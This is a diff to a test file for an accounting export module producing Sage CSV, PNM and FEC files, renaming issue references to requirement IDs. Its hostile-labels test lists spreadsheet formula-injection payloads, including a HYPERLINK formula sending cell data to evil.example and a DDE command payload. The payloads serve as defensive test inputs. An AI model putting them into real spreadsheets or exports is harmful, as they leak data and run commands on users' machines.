@@ -116,14 +116,14 @@ describe('files', () => {
     for (const line of pnmLines(odd).split('\r\n').slice(0, -1)) expect(encodeLatin9(line)).toHaveLength(138);
   });
 
-  it('CSV: ; separated, comma decimals, four-digit years, the invoice number as reference (issue 18)', () => {
+  it('CSV: ; separated, comma decimals, four-digit years, the invoice number as reference (R-LEDG-03)', () => {
     expect(sageCsvLines(entry)).toBe(
       'VE;07/03/2025;411000;411069012;2025-FFME-42;Licence adulte 2025 - Éloïse Œuvré;123,45;;;VE-BROUILLARD-42\r\n' +
         'VE;07/03/2025;756100;;2025-FFME-42;Licence adulte 2025 - Éloïse Œuvré;;123,45;LIC;VE-BROUILLARD-42\r\n',
     );
   });
 
-  it('CSV: labels follow the PNM layout width, 69 characters at most (issue 18)', () => {
+  it('CSV: labels follow the PNM layout width, 69 characters at most (R-LEDG-03)', () => {
     const long = buildEntry({ ...FLUX, label: 'y'.repeat(100) }, 'federation', HEAD_OFFICE, 'VE', []);
     expect(sageCsvLines(long, layoutLabelWidth(DEFAULT_PNM_LAYOUT)).split(';')[5]).toBe('y'.repeat(35));
     expect(sageCsvLines(long, 50).split(';')[5]).toBe('y'.repeat(50));
@@ -216,7 +216,7 @@ describe('files', () => {
     expect(fecFileName('775671356', '2025-08-31')).toBe('775671356FEC20250831.txt');
   });
 
-  describe('hostile labels (issue 15): files the server writes hold one record a line and no formula', () => {
+  describe('hostile labels (R-LEDG-05): files the server writes hold one record a line and no formula', () => {
     const HOSTILE = [
       '=HYPERLINK("http://evil.example/?x="&A1;"Cliquez")',
       "+cmd|' /C calc'!A0",
